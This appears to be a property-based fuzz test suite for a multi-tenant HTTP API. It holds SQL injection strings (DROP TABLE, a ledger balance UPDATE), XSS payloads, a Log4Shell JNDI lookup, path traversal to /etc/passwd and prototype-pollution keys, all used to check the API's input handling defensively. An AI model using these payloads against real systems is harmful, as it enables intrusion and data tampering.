import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { fingerprint, hit, type Req, type Res } from "./client";
import { envelopeProblem } from "./envelopes";
import { documentedOperations, type RouteFixture, routes } from "./routes";
import { Problems, summary } from "./summary";
import { buildWorld, fresh, idSet, type World } from "./world";

/**
 * Property-based hostile input. Replay a failure with the seed printed at the start of
 * the run (and the `path` fast-check reports) by setting FUZZ_SEED below.
 */
const FUZZ_SEED = 20_260_814;
/** Generated bodies per write route: with the fixed cases below, keeps the suite within its time budget on 2 cores. */
const RUNS_PER_ROUTE = 30;

const injections = [
  "Robert'); DROP TABLE customers;--",
  '" OR "1"="1" --',
  "1; UPDATE ledger_accounts SET balance = 99999999",
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "${jndi:ldap://evil/x} {{7*7}} %s%n",
  "../../../../etc/passwd",
  "Ñandú Ærøskøbing 東京 🎰 עברית مرحبا",
  "zero\u200Bwidth\u202Eright-to-left",
];
const badDates = ["2018-02-30", "2018-13-01", "0000-00-00", "2019-02-29", "2018-06-03T25:61:61Z", "03/06/2018", "2018-6-3"];
const badNumbers = [2 ** 53, 2 ** 53 + 2, -(2 ** 53) - 2, 1e308, -1e308, 5e-324, -1, -0.01, 0.001, 0.5, 12.345, 0, 1e21];

const weird: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom<unknown>(null, true, false, "", " ", [], {}, [[[[]]]], { $gt: "" }, ...injections, ...badDates, ...badNumbers) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 10 }) },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
  { weight: 1, arbitrary: fc.constantFrom("x".repeat(300), "9".repeat(400), "é".repeat(2_000)) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

type Mutation =
  | { kind: "set"; at: number; value: unknown }
  | { kind: "delete"; at: number }
  | { kind: "add"; key: string; value: unknown }
  | { kind: "root"; value: unknown };

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 5, arbitrary: fc.record({ kind: fc.constant("set" as const), at: fc.nat(), value: weird }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant("delete" as const), at: fc.nat() }) },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant("add" as const),
      key: fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom("__proto__", "constructor", "tenant_id")),
      value: weird,
    }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("root" as const), value: weird }) },
);

type Path = Array<string | number>;

function pathsOf(value: unknown, prefix: Path = []): Path[] {
  if (value === null || typeof value !== "object") return [];
  return Object.entries(value).flatMap(([key, child]) => {
    const path = [...prefix, Array.isArray(value) ? Number(key) : key];
    return [path, ...pathsOf(child, path)];
  });
}

/** Applies mutations to a deep copy of `body`. */
function mutate(body: unknown, mutations: Mutation[]): unknown {
  let root: unknown = structuredClone(body);
  for (const m of mutations) {
    if (m.kind === "root") {
      root = m.value;
      continue;
    }
    if (m.kind === "add") {
      if (root !== null && typeof root === "object" && !Array.isArray(root))
        Object.defineProperty(root, m.key, { value: m.value, enumerable: true, configurable: true, writable: true });
      continue;
    }
    const paths = pathsOf(root);
    if (paths.length === 0) continue;
    const path = paths[m.at % paths.length]!;
    const parent = path.slice(0, -1).reduce<any>((node, key) => node[key], root);
    const key = path.at(-1)!;
    if (m.kind === "delete") {
      if (Array.isArray(parent)) parent.splice(Number(key), 1);
      else delete parent[key];
    } else parent[key] = m.value;
  }
  return root;
}

/** Raw bodies no JSON.stringify produces, derived from a valid body. */
function rawCases(body: unknown): Record<string, () => { rawBody: BodyInit; contentType?: string }> {
  const text = JSON.stringify(body);
  const bytes = new TextEncoder().encode(text);
  const quote = text.indexOf('":"') + 3;
  const invalidUtf8 = new Uint8Array([...bytes.slice(0, quote), 0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80, ...bytes.slice(quote)]);
  const firstNumber = /:(-?\d+(\.\d+)?)/.exec(text);
  const withNumber = (n: string) => (firstNumber ? text.replace(firstNumber[0], `:${n}`) : text.replace(/^\{/, `{"n":${n},`));
  const mib = () => "x".repeat(1 << 20);
  return {
    "1 MiB body": () => ({ rawBody: text.replace(/^\{/, `{"pad":"${mib()}",`) }),
    "1 MiB streamed (no Content-Length)": () => ({
      rawBody: new ReadableStream({
        start(controller) {
          for (let i = 0; i < 16; i++) controller.enqueue(new TextEncoder().encode(i === 0 ? `{"pad":"${"x".repeat(65_536)}` : "x".repeat(65_536)));
          controller.enqueue(new TextEncoder().encode('"}'));
          controller.close();
        },
      }),
    }),
    "invalid UTF-8 bytes": () => ({ rawBody: invalidUtf8 }),
    "integer beyond 2^53 in the text": () => ({ rawBody: withNumber("123456789012345678901234567890") }),
    "number overflowing to Infinity": () => ({ rawBody: withNumber("1e400") }),
    "negative overflow": () => ({ rawBody: withNumber("-1e400") }),
    "truncated JSON": () => ({ rawBody: text.slice(0, Math.max(1, text.length >> 1)) }),
    "empty body": () => ({ rawBody: "" }),
    "JSON null": () => ({ rawBody: "null" }),
    "JSON array": () => ({ rawBody: `[${text}]` }),
    "JSON string": () => ({ rawBody: JSON.stringify(text) }),
    "duplicate keys, the last one hostile": () => ({ rawBody: text.replace(/\}$/, ',"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":1}}}') }),
    "arrays nested 20000 deep": () => ({ rawBody: `${"[".repeat(20_000)}${"]".repeat(20_000)}` }),
    "objects nested 6000 deep": () => ({ rawBody: `${'{"a":'.repeat(6_000)}1${"}".repeat(6_000)}` }),
    "BOM before the JSON": () => ({ rawBody: `\uFEFF${text}` }),
    "text/plain": () => ({ rawBody: text, contentType: "text/plain" }),
    "application/xml": () => ({ rawBody: "<a>1</a>", contentType: "application/xml" }),
    "multipart/form-data": () => ({
      rawBody: `--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--\r\n`,
      contentType: "multipart/form-data; boundary=x",
    }),
    "form-urlencoded": () => ({ rawBody: "a=1&b=%ZZ", contentType: "application/x-www-form-urlencoded" }),
    "no content type": () => ({ rawBody: text, contentType: "" }),
    "JSON declared as UTF-16": () => ({ rawBody: text, contentType: "application/json; charset=utf-16" }),
    "application/jsonx": () => ({ rawBody: text, contentType: "application/jsonx" }),
  };
}

/** Checks one answer: never a 5xx, an error is in the surface's envelope and wrote nothing. */
async function judge(problems: Problems, where: string, fixture: RouteFixture, send: () => Promise<Res>): Promise<Res> {
  const before = await fingerprint();
  const res = await send();
  const after = await fingerprint();
  summary.fuzzCases += 1;
  summary.fuzzStatuses[res.status] = (summary.fuzzStatuses[res.status] ?? 0) + 1;
  problems.check(res.status < 500, () => `${where}: ${res.status} ${res.text.slice(0, 200)}`);
  if (res.status >= 400) {
    const problem = envelopeProblem(fixture.surface, res);
    problems.check(problem === null, () => `${where}: envelope ${problem}`);
    problems.check(before === after, () => `${where}: rejected with ${res.status} but rows changed`);
  }
  return res;
}

function withContentType(req: Req, contentType: string | undefined): Record<string, string> {
  const headers = { ...req.headers };
  if (contentType === undefined) headers["content-type"] = "application/json";
  else if (contentType !== "") headers["content-type"] = contentType;
  return headers;
}

describe("fuzzed input", () => {
  let w: World;

  beforeAll(async () => {
    w = await buildWorld(null, idSet("fuzz"));
    console.info(`hostile fuzz seed ${FUZZ_SEED}`);
  });

  it(`every write route: ${RUNS_PER_ROUTE} generated broken bodies each (seed ${FUZZ_SEED}) -> never a 5xx, always its envelope, nothing written when refused`, async () => {
    const problems = new Problems();
    for (const operation of await documentedOperations()) {
      const fixture = routes[operation];
      if (!fixture || operation.startsWith("GET") || operation.startsWith("DELETE")) continue;
      await fc.assert(
        fc.asyncProperty(fc.array(mutation, { minLength: 1, maxLength: 3 }), async (mutations) => {
          const req = await fixture.valid(w);
          const body = mutate(req.body ?? {}, mutations);
          // Bodies JSON cannot carry (undefined) are sent as nothing at all.
          const rawBody = JSON.stringify(body) ?? "";
          const res = await judge(problems, `${operation} ${rawBody.slice(0, 160)}`, fixture, () =>
            hit({ ...req, body: undefined, rawBody, headers: withContentType(req, undefined) }),
          );
          return res.status < 500;
        }),
        { seed: FUZZ_SEED, numRuns: RUNS_PER_ROUTE, endOnFailure: true },
      );
    }
    expect(problems.all).toEqual([]);
  });

  it("every write route: 1 MiB, streamed, invalid UTF-8, huge numbers, deep nesting, wrong content types -> never a 5xx, always its envelope, nothing written when refused", async () => {
    const problems = new Problems();
    for (const operation of await documentedOperations()) {
      const fixture = routes[operation];
      if (!fixture || operation.startsWith("GET") || operation.startsWith("DELETE")) continue;
      for (const name of Object.keys(rawCases({}))) {
        // A fresh valid request for each case, so an accepted one never collides with an earlier one.
        const req = await fixture.valid(w);
        const raw = rawCases(req.body ?? {})[name]!();
        const res = await judge(problems, `${operation} [${name}]`, fixture, () =>
          hit({ ...req, body: undefined, rawBody: raw.rawBody, headers: withContentType(req, raw.contentType) }),
        );
        if (name.startsWith("1 MiB")) problems.check(res.status === 413, () => `${operation} [${name}]: ${res.status}, expected 413`);
        // Decoding leniently would store U+FFFD instead of what was sent.
        if (name === "invalid UTF-8 bytes") problems.check(res.status >= 400, () => `${operation} [${name}]: accepted with ${res.status}`);
      }
    }
    expect(problems.all).toEqual([]);
  });

  it("every route with path or query parameters: hostile values in each parameter -> never a 5xx, always its envelope, nothing written when refused", async () => {
    const problems = new Problems();
    const values = [
      "0",
      "-1",
      "1e3",
      "99999999999999999999999",
      "9007199254740993",
      "%00",
      "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
      "%27%20OR%201%3D1--",
      "%3Cscript%3E",
      "%F0%9F%8E%B0",
      "%C3%28",
      "%ZZ",
      "2018-02-30",
      "'2018-02-30'",
      "x".repeat(3_000),
      "",
    ];
    for (const operation of await documentedOperations()) {
      const fixture = routes[operation];
      if (!fixture) continue;
      const [method, template] = operation.split(" ") as [string, string];
      const params = [...template.matchAll(/\{(\w+)\}/g)].map((m) => m[1]!);
      const sample = await fixture.valid(w);
      const query = new URL(`https://x${sample.path}`).searchParams;
      if (params.length === 0 && [...query.keys()].length === 0) continue;
      for (const value of values) {
        const variants: string[] = params.map((param) => template.replace(`{${param}}`, value).replace(/\{\w+\}/g, "1"));
        for (const key of query.keys()) {
          const parts = [...query.entries()].map(([k, v]) => (k === key ? `${k}=${value}` : `${k}=${encodeURIComponent(v)}`));
          variants.push(`${sample.path.split("?")[0]}?${parts.join("&")}`);
        }
        for (const path of variants) {
          const req = method === "GET" || method === "DELETE" ? { ...sample } : await fixture.valid(w);
          await judge(problems, `${method} ${path.slice(0, 120)}`, fixture, () => hit({ ...req, path }));
        }
      }
    }
    expect(problems.all).toEqual([]);
  });

  it("injection strings and unicode that are valid input are stored and returned verbatim", async () => {
    const problems = new Problems();
    const texts = injections.filter((s) => !s.startsWith("zero"));
    for (const text of texts) {
      const n = fresh();
      const name = text.slice(0, 100);
      const client = await hit({
        method: "POST",
        path: "/api/clientes",
        headers: w.t.auth,
        body: { nombre: name, tipoCliente: "PERSONA", tipoDocumento: "OTRO", numeroDocumento: `X${n}`, codigoCliente: text.slice(0, 50), direccion: text },
      });
      const read = await hit({ method: "GET", path: `/api/clientes/${client.body?.id}`, headers: w.t.auth });
      problems.check(
        read.body?.nombre === name && read.body?.direccion === text && read.body?.codigoCliente === text.slice(0, 50),
        () => `clients: ${client.status} ${client.text.slice(0, 200)} / ${read.text.slice(0, 200)}`,
      );

      const documento = `doc-${n}`;
      await hit({
        method: "POST",
        path: "/api/sales/clientes",
        headers: w.t.auth,
        body: { nombre: name, id_tipo_cliente: 1, id_tipo_documento: 5, documento, direccion: text },
      });
      await hit({ method: "POST", path: "/api/sales/ventas", headers: w.t.auth, body: { documento, apartamento: text.slice(0, 50), monto: 1, tipo: "venta" } });
      const sales = await hit({ method: "GET", path: `/api/sales/clientes/${encodeURIComponent(documento)}`, headers: w.t.auth });
      const ventas = await hit({ method: "GET", path: `/api/sales/clientes/${encodeURIComponent(documento)}/ventas`, headers: w.t.auth });
      problems.check(sales.body?.data?.nombre === name && sales.body?.data?.direccion === text, () => `sales: ${sales.text.slice(0, 200)}`);
      problems.check(ventas.body?.data?.[0]?.apartamento === text.slice(0, 50), () => `ventas: ${ventas.text.slice(0, 200)}`);

      const externalId = `inj-${n}`;
      const posted = await hit({
        method: "POST",
        path: "/api/transaction",
        headers: w.t.auth,
        body: {
          type: "POINTS COUPON",
          code: text.slice(0, 191),
          description: text,
          total: 1,
          customer: { externalId, name, data: { note: text } },
          store: { externalId: text.slice(0, 191), name },
        },
      });
      const found = await hit({ method: "GET", path: `/api/customer/findByExternalId?externalId=${encodeURIComponent(externalId)}`, headers: w.t.auth });
      problems.check(
        posted.body?.data?.description === text && posted.body?.data?.code === text.slice(0, 191) && posted.body?.data?.customer?.name === name,
        () => `loyalty: ${posted.status} ${posted.text.slice(0, 300)}`,
      );
      problems.check(found.body?.data?.name === name && found.body?.data?.data?.note === text, () => `loyalty customer: ${found.text.slice(0, 200)}`);

      await hit({ method: "PUT", path: "/admin/settings/vlt-destination", headers: { authorization: "Bearer test-admin-token" }, body: { tenantId: w.t.id } });
      const card = `INJ${n}`;
      const registered = await hit({
        method: "POST",
        path: "/api/clientes/register",
        body: {
          codigoClienteVLT: 800_000 + n,
          correo: `inj${n}@example.com`,
          tarjeta: card,
          enviarWhatsApp: true,
          enviarCorreo: true,
          enviarSms: true,
          nombre: name,
          apellidoPaterno: name,
        },
      });
      const lobby = await hit({ method: "POST", path: "/api/lobby/authenticate", headers: w.t.kioskAuth, body: { cardIdentifier: card } });
      problems.check(
        registered.status === 201 && lobby.body?.nombre === name && lobby.body?.apellidoPaterno === name,
        () => `kiosk: ${registered.text} / ${lobby.text.slice(0, 200)}`,
      );
      summary.fuzzCases += 8;
    }
    expect(problems.all).toEqual([]);
  });
});
